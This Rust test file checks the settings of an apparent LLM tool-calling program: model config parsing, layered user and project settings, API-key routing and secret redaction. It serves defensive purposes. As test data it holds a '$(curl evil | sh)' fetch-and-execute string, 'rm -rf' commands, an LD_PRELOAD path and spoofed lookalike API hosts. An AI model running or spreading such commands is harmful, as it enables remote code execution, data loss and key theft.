//! Settings: their meaning, their layers, and their output.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::too_many_lines,
    reason = "tests, some of which are long tables"
)]

use std::num::NonZeroU32;

use plaincall_call::Unclosed;
use plaincall_config::secret::{Address, not_shown, redacted, redacted_prose, starred};
use plaincall_config::settings::{
    Api, Arguments, KeySource, Layers, Model, Reasoning, Settings, Syntax, ToolMode, read_settings,
    untrusted,
};
use plaincall_config::{Document, FileError};
use serde_json::json;

/// Reads a file of models without any environment variable.
fn read_models(file: &str, text: &str, all: &Model) -> Result<Vec<(String, Model)>, FileError> {
    plaincall_config::settings::read_models(file, text, all, &|_| None)
}

/// Checks the effect of one table with these lines, over the settings for all models.
fn over(all: &Model, lines: &str, expected: &Model) {
    let text = format!("[models.\"a:*\"]\n{lines}");
    let models = read_models("models.toml", &text, all).unwrap_or_else(|error| panic!("{error}"));
    assert_eq!(models, [("a:*".to_owned(), expected.clone())], "{lines}");
}

#[test]
fn every_key_of_a_model() {
    let none = Model::default;
    let syntax = |syntax| Model {
        syntax: Some(syntax),
        ..none()
    };
    let start = |marker: &str| Model {
        start_prefix: Some(marker.to_owned()),
        ..none()
    };
    let keyed = |keyed| Model {
        keyed: Some(keyed),
        ..none()
    };
    let begun = |is_begun| Model {
        in_reasoning: Some(is_begun),
        ..none()
    };
    let markers =
        |open: &str, close: &str| Some(Reasoning::Between([open.to_owned(), close.to_owned()]));
    let unclosed = |unclosed| Model {
        unclosed: Some(unclosed),
        ..none()
    };
    let arguments = |arguments| Model {
        arguments: Some(arguments),
        ..none()
    };
    let custom = |syntax| Model {
        syntax: Some(syntax),
        ..start("<<START:")
    };
    for (all, lines, expected) in [
        (none(), "", none()),
        (none(), "syntax = 'emoji'", syntax(Syntax::Emoji)),
        (start("<<START:"), "syntax = 'block'", custom(Syntax::Block)),
        (start("<<START:"), "syntax = 'emoji'", syntax(Syntax::Emoji)),
        (
            syntax(Syntax::Emoji),
            "syntax = 'block'",
            syntax(Syntax::Block),
        ),
        (none(), "start_prefix = '<<START:'", start("<<START:")),
        (
            start("<<START:"),
            "end_prefix = '<<END'\narg_prefix = '<<ARG:'",
            Model {
                end_prefix: Some("<<END".to_owned()),
                arg_prefix: Some("<<ARG:".to_owned()),
                ..start("<<START:")
            },
        ),
        (none(), "keyed = true", keyed(true)),
        (keyed(true), "keyed = false", keyed(false)),
        (
            begun(true),
            "reasoning = ['<t>', '</t>']",
            Model {
                reasoning: markers("<t>", "</t>"),
                ..begun(true)
            },
        ),
        (
            none(),
            "reasoning = false",
            Model {
                reasoning: Some(Reasoning::Is(false)),
                ..none()
            },
        ),
        (
            none(),
            "syntax = 'emoji'\nself_closing = true",
            Model {
                syntax: Some(Syntax::Emoji),
                self_closing: Some(true),
                ..none()
            },
        ),
        (begun(true), "in_reasoning = false", begun(false)),
        (
            unclosed(Unclosed::Run),
            "unclosed = 'reject'",
            unclosed(Unclosed::Reject),
        ),
        (none(), "arguments = 'stream'", arguments(Arguments::Stream)),
        (
            arguments(Arguments::Stream),
            "arguments = 'checked'",
            arguments(Arguments::Checked),
        ),
        (
            none(),
            "mode = 'native'\nrepair_rounds = 0",
            Model {
                mode: Some(ToolMode::Native),
                repair_rounds: Some(0),
                ..none()
            },
        ),
        (
            none(),
            "developer_role = true",
            Model {
                developer_role: Some(true),
                ..none()
            },
        ),
        (
            Model {
                hidden_tools: Some(vec!["web_*".to_owned()]),
                ..none()
            },
            "listed_tools = ['read', 'mcp__*']\ndescription_length = 200",
            Model {
                listed_tools: Some(vec!["read".to_owned(), "mcp__*".to_owned()]),
                hidden_tools: Some(vec!["web_*".to_owned()]),
                description_length: NonZeroU32::new(200),
                ..none()
            },
        ),
    ] {
        over(&all, lines, &expected);
    }
    assert_eq!(read_models("", "", &none()).unwrap(), []);
    let several = read_models("", "[models]\nb = {}\n[models.a]\nkeyed = true\n", &none()).unwrap();
    let names: Vec<&str> = several.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(names, ["b", "a"]);
    // A resumed conversation keeps its prompt, even if the model's table has changed.
    let now = Model {
        url: Some(Address("http://a".to_owned())),
        ..custom(Syntax::Block)
    };
    let taught = now.taught_as(&keyed(true).teaching());
    assert_eq!((taught.start_prefix, taught.keyed), (None, Some(true)));
    assert_eq!(taught.url, Some(Address("http://a".to_owned())));
    assert_eq!(
        Model::named("anthropic:a").and_then(|model| model.kind),
        Some(Api::Anthropic)
    );
}

#[test]
fn problems_of_models() {
    for (text, position, words) in [
        (
            "[models.a]\nsyntx = 'block'",
            (2, 1),
            "unknown key `syntx`; did you mean `syntax`?",
        ),
        ("[models.a]\nzoom = 1", (2, 1), "the keys are url, "),
        (
            "[models.a]\nsyntax = 'json'",
            (2, 10),
            "it must be `block` or `emoji`",
        ),
        (
            "[models.a]\narguments = 'streamed'",
            (2, 13),
            "it must be `checked` or `stream`",
        ),
        (
            "[models.a]\nunclosed = true",
            (2, 12),
            "it must be `reject` or `run`",
        ),
        (
            "[models.a]\nsyntax = 1",
            (2, 10),
            "it must be `block` or `emoji`",
        ),
        (
            "[models.a]\nstart_prefix = 1",
            (2, 16),
            "it must be a string",
        ),
        (
            "[models.a]\nkeyed = 'yes'",
            (2, 9),
            "it must be true or false",
        ),
        (
            "[models.a]\nreasoning = ['<t>']",
            (2, 13),
            "an array of two strings, or true or false",
        ),
        (
            "[models.a]\nreasoning = '<t>'",
            (2, 13),
            "an array of two strings, or true or false",
        ),
        (
            "[models.a]\nreasoning = false\nin_reasoning = true",
            (3, 1),
            "set it to the two markers",
        ),
        (
            "[models.a]\nself_closing = true",
            (2, 1),
            "requires `syntax` to be `emoji`",
        ),
        (
            "[models.a]\nrepair_rounds = -1",
            (2, 17),
            "an integer of at least 0",
        ),
        (
            "[models.a]\nrepair_rounds = 21",
            (2, 1),
            "an integer from 0 to 20",
        ),
        (
            "[models.a]\ndescription_length = 0",
            (2, 22),
            "an integer of at least 1",
        ),
        ("[models.a]\nlisted_tools = 'read'", (2, 16), "an array"),
        (
            "[models.a]\nmode = 'native'\nlisted_tools = []",
            (3, 1),
            "tools are not in it; remove one",
        ),
        ("\n[models.'a']\nstart_prefix = '!'", (2, 9), "is too short"),
        (
            "[models.a]\nsyntax = 'emoji'\nend_prefix = 'END'",
            (3, 1),
            "a marker of the block syntax",
        ),
        (
            "[models.a]\ntemperature = 1",
            (2, 1),
            "not supported by `plaincall serve`",
        ),
        (
            "[models]\nkeyed = true",
            (2, 9),
            "`keyed` is true; it must be a table",
        ),
        ("[model.a]\n", (1, 2), "did you mean `models`?"),
        (
            "models = 7\n",
            (1, 10),
            "`models` is the number 7; it must be a table",
        ),
        ("[models.a]\n[models.a]\n", (2, 9), "duplicate key `a`"),
        (
            "[models.a]\nkeyed = true\nkeyed = true\n",
            (3, 1),
            "duplicate key `keyed`",
        ),
        ("[models.a]\nkeyed = \n", (2, 9), ""),
    ] {
        let error = read_models("models.toml", text, &Model::default()).unwrap_err();
        let [problem] = error.problems.as_slice() else {
            panic!("{text}: {error}");
        };
        assert!(problem.message.contains(words), "{text}: {problem}");
        assert_eq!(
            (problem.line, problem.column),
            position,
            "{text}: {problem}"
        );
    }
    let two = read_models("", "[models.a]\nx = 1\nkeyed = 1", &Model::default());
    assert_eq!(two.unwrap_err().problems.len(), 2);
}

#[test]
fn problems_of_servers() {
    for (lines, position, words) in [
        ("", (1, 14), "needs `command`"),
        (
            "command = 'x'\nurl = 'http://x'",
            (3, 1),
            "either `command` or `url`, not both",
        ),
        (
            "command = 'x'\nheaders = { a = 'b' }",
            (3, 1),
            "`headers` is only for servers with a `url`",
        ),
        (
            "url = 'http://x'\nargs = []",
            (3, 1),
            "`args` is only for servers with a `command`",
        ),
        (
            "url = 'http://x'\ncwd = 'a'",
            (3, 1),
            "`cwd` is only for servers with a `command`",
        ),
        (
            "url = 'http://x'\ntype = 'stdio'",
            (2, 1),
            "`url` cannot be used with this `type`",
        ),
        (
            "url = 'http://x'\ntype = 'ftp'",
            (3, 8),
            "unknown transport `ftp`",
        ),
        (
            "comand = 'x'",
            (2, 1),
            "unknown key `comand`; did you mean `command`?",
        ),
    ] {
        let text = format!("[mcp.servers.'a/b']\n{lines}");
        let error = read_settings("config.toml", &text, None).unwrap_err();
        let [problem] = error.problems.as_slice() else {
            panic!("{text}: {error}");
        };
        assert!(problem.message.contains(words), "{text}: {problem}");
        let found = (problem.line, problem.column);
        assert_eq!(found, position, "{text}: {problem}");
    }
    let text = "[mcp.servers]\na = { command = 'x', type = 'local' }\nb = { url = 'http://x' }\n";
    assert!(read_settings("config.toml", text, None).is_ok());
}

#[test]
fn layers() {
    let file = |name: &str, text: &str| Document::toml(name, text).root().clone();
    let deny = "[[rules]]\ntools = 'a'\nverdict = 'deny'\nreason = 'theirs'\n";
    let ask = "[[rules]]\ntools = 'b'\nverdict = 'ask'\n";
    let allow = "[[rules]]\ntools = 'c'\nverdict = 'allow'\n";
    let project = file(
        "project",
        &format!("system_file = 's'\n[models.a]\nurl = 'http://evil'\n{ask}{allow}{deny}"),
    );
    let user = file(
        "user",
        &format!(
            "system = 's'\nmodel = 'a'\n[limits]\nturns = 5\ncalls = 6\n[models.a]\nurl = 'https://a'\nkey_env = 'KEY'\n[models.b]\nurl = 'https://b'\n{allow}"
        ),
    );
    let merged = |project| {
        let mut layers = Layers::default();
        layers.user = user.clone();
        layers.project = project;
        layers.merge()
    };
    let tree = merged(project.clone());
    let settings: Settings = tree.read().unwrap();
    // A model is taken as a whole, so a key is sent only to its own address.
    assert_eq!(settings.models["a"].key_env, None);
    assert_eq!(
        settings.models["b"].url,
        Some(Address("https://b".to_owned()))
    );
    assert_eq!(
        (
            settings.system.as_deref(),
            settings.limits.calls.map(u32::from)
        ),
        (None, Some(6))
    );
    let rules = |settings: &Settings| -> Vec<String> {
        let rules = settings.rules.iter();
        rules
            .map(|rule| format!("{:?} {:?}", rule.tools.0[0], rule.verdict))
            .collect()
    };
    assert_eq!(
        rules(&settings),
        ["\"a\" Deny", "\"c\" Allow", "\"b\" Ask", "\"c\" Allow"]
    );
    let origins = ["/rules/0", "/rules/1", "/rules/2/verdict", "/limits/turns"];
    let lines = [
        "project, line 10",
        "user, line 11",
        "project, line 6",
        "user, line 4",
    ];
    assert_eq!(
        origins.map(|at| tree.get(at).unwrap().origin.to_string()),
        lines
    );
    let (kept, ignored) = untrusted(project);
    assert_eq!(ignored, ["`system_file`", "`models`", "rules that allow"]);
    let settings: Settings = merged(kept).read().unwrap();
    assert_eq!(rules(&settings), ["\"a\" Deny", "\"c\" Allow", "\"b\" Ask"]);
    assert_eq!(
        settings.rules[0].reason.as_deref(),
        Some("a rule of the project denies this call")
    );
    assert_eq!(settings.models["a"].key_env.as_deref(), Some("KEY"));
}

#[test]
fn where_usual_keys_go() {
    let variable = |url: &str| {
        let url = Some(Address(url.to_owned()));
        let model = Model {
            url,
            ..Model::default()
        };
        match model.key() {
            Some(KeySource::Usual(_, variable)) => Some(variable),
            Some(other) => panic!("{other:?}"),
            None => None,
        }
    };
    for (url, expected) in [
        ("https://api.openai.com/v1", Some("OPENAI_API_KEY")),
        ("https://api.openai.com:443/v1", Some("OPENAI_API_KEY")),
        ("https://api.anthropic.com", Some("ANTHROPIC_API_KEY")),
        ("http://api.openai.com/v1", None),
        ("https://api.openai.com@evil.example/v1", None),
        ("https://evil.example/api.openai.com", None),
        ("https://evil.example\\@api.openai.com", None),
        ("https://api.openai.com.evil.example", None),
        ("https://api.openai.com:8443/v1", None),
    ] {
        assert_eq!(variable(url), expected, "{url}");
    }
}

#[test]
fn the_provider_that_was_meant() {
    for (name, expected) in [
        ("qwen3", Some("ollama:qwen3")),
        ("qwen3:8b", Some("ollama:qwen3:8b")),
        ("Llama3.2", Some("ollama:Llama3.2")),
        ("gpt-oss:20b", Some("ollama:gpt-oss:20b")),
        ("gpt-5", Some("openai:gpt-5")),
        ("o3-mini", Some("openai:o3-mini")),
        ("claude-sonnet-4-5", Some("anthropic:claude-sonnet-4-5")),
        ("olama:qwen3", Some("ollama:qwen3")),
        (
            "antropic:claude-sonnet-4-5",
            Some("anthropic:claude-sonnet-4-5"),
        ),
        ("opneai:gpt-5", Some("openai:gpt-5")),
        ("gemini-2.5-pro", None),
        ("mymodel", None),
        ("azure:gpt", None),
        ("ollama:", None),
        ("meta-llama/Llama-3", None),
        ("", None),
    ] {
        assert_eq!(Model::with_provider(name).as_deref(), expected, "{name}");
    }
}

#[test]
fn possible_secrets_are_not_shown() {
    for (url, expected) in [
        ("https://a.example/v1", "https://a.example/v1"),
        (
            "https://a.example/v1?api_key=k",
            "https://a.example/v1?(not shown)",
        ),
        ("https://a.example?key=k@b", "https://a.example?(not shown)"),
        ("https://a.example/#k", "https://a.example/#(not shown)"),
        (
            "https://u:k@a.example/v1",
            "https://(not shown)@a.example/v1",
        ),
        (
            "https://k@u@a.example:8443?x=k",
            "https://(not shown)@a.example:8443?(not shown)",
        ),
        ("https://a.example/@b", "https://a.example/@b"),
        ("u:k@a.example?k", "(not shown)@a.example?(not shown)"),
    ] {
        let address = Address(url.to_owned());
        assert_eq!(serde_json::to_value(&address).unwrap(), expected);
        assert_eq!(format!("{address:?}"), expected);
    }
    let text = "[models.a]\nextra = { key = 'k', deep = { key = 'k' }, number = 1 }\n[mcp.servers.a]\nargs = ['run', '--token', 'k']\nenv = { KEY = 'k' }\n[mcp.servers.b]\nargs = ['--token=k=l']\n";
    let settings: Settings = Document::toml("", text).read("").unwrap();
    let shown = serde_json::to_value(&settings).unwrap();
    for (pointer, expected) in [
        (
            "/models/a/extra",
            json!({"key": "(not shown)", "deep": "(not shown)", "number": "(not shown)"}),
        ),
        (
            "/mcp/servers/a/args",
            json!(["run", "(not shown)", "(not shown)"]),
        ),
        ("/mcp/servers/a/env", json!({"KEY": "(not shown)"})),
        ("/mcp/servers/b/args", json!(["--token=(not shown)"])),
    ] {
        assert_eq!(shown.pointer(pointer), Some(&expected), "{pointer}");
    }
}

#[test]
fn settings_without_secrets() {
    for (text, expected) in [
        (
            "model = 'claude-sonnet-4-5-20250929'",
            "model = 'claude-sonnet-4-5-20250929'",
        ),
        (
            "env = { API_KEY = \"tulip\" }",
            "env = { API_KEY = \"(not shown)\" }",
        ),
        ("env.API_KEY = 'tulip'", "env.API_KEY = '(not shown)'"),
        (
            "[mcp.servers.x.headers]\nAuthorization = \"Bearer tulip\"",
            "[mcp.servers.x.headers]\nAuthorization = \"(not shown)\"",
        ),
        (
            "\"x-token\" = 'a\\'\nb = 1",
            "\"x-token\" = '(not shown)'\nb = 1",
        ),
        (
            r#"{"env": {"PASSWORD": "tu\"lip", "MODE": "x"}}"#,
            r#"{"env": {"PASSWORD": "(not shown)", "MODE": "x"}}"#,
        ),
        (
            r#"{"Authorization":"Bearer \u0074ulip"}"#,
            r#"{"Authorization":"(not shown)"}"#,
        ),
        (
            "args = ['--api-key', 'tulip', 'x']",
            "args = ['--api-key', '(not shown)', 'x']",
        ),
        (
            "args = [\n  '--api-key',\n  'tulip',\n]",
            "args = [\n  '--api-key',\n  '(not shown)',\n]",
        ),
        (
            "args = ['--token=tulip', '-v']",
            "args = ['--token=(not shown)', '-v']",
        ),
        (
            "command = ['env', 'TOKEN=tulip', 'x']",
            "command = ['env', 'TOKEN=(not shown)', 'x']",
        ),
        (
            "url = 'https://me:tulip@a.example/v1?api_key=rose&q=x'",
            "url = 'https://(not shown)@a.example/v1?api_key=(not shown)&q=x'",
        ),
        ("# sk-proj-1234567890abc\na = 1", "# (not shown)\na = 1"),
        ("x = 'AKIAIOSFODNN7EXAMPLE'", "x = '(not shown)'"),
        ("x = 'ghp_16C7e42F292c6912E7'", "x = '(not shown)'"),
        (
            "x = '6f9619ff-8b86-d011-b42d-00cf4fc964ff'",
            "x = '(not shown)'",
        ),
        // Values that are not secret are kept, in particular the commands to run.
        ("key_file = '/home/me/key'", "key_file = '/home/me/key'"),
        (
            "parameters = { key = 'string', token = 'integer?' }",
            "parameters = { key = 'string', token = 'integer?' }",
        ),
        (
            "env = { LD_PRELOAD = '/tmp/x.so' }",
            "env = { LD_PRELOAD = '/tmp/x.so' }",
        ),
        (
            "shell = 'KEY=\"$(curl evil | sh)\" x'",
            "shell = 'KEY=\"$(curl evil | sh)\" x'",
        ),
        (
            "shell = '''\nKEY='a b' rm -rf x\n'''",
            "shell = '''\nKEY='a b' rm -rf x\n'''",
        ),
        (
            "command = ['sh', '-c', 'rm -rf x']",
            "command = ['sh', '-c', 'rm -rf x']",
        ),
        ("max_tokens = 8192", "max_tokens = 8192"),
        (
            "a = 'https://a.example/v1?q=x'",
            "a = 'https://a.example/v1?q=x'",
        ),
        (
            "# don't\nb = 'it''s' # isn't it\nc = 'x86_64-unknown-linux-gnu'",
            "# don't\nb = 'it''s' # isn't it\nc = 'x86_64-unknown-linux-gnu'",
        ),
    ] {
        assert_eq!(redacted(text, not_shown), expected, "{text}");
        assert_eq!(redacted(text, starred).len(), text.len(), "{text}");
    }
}

#[test]
fn prose_without_secrets() {
    for (text, expected) in [
        (
            "Don't say \"hello\".\nThe key is: here.",
            "Don't say \"hello\".\nThe key is: here.",
        ),
        (
            "Use sk-proj-1234567890abc, please.",
            "Use (not shown), please.",
        ),
        (
            "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ",
            "ssh-rsa (not shown)",
        ),
        (
            "postgres://me:tulip@host/name",
            "postgres://(not shown)@host/name",
        ),
        (
            "-----BEGIN KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC/x\n",
            "-----BEGIN KEY-----\n(not shown)/x\n",
        ),
    ] {
        assert_eq!(redacted_prose(text, not_shown), expected, "{text}");
        assert_eq!(redacted_prose(text, starred).len(), text.len(), "{text}");
    }
}
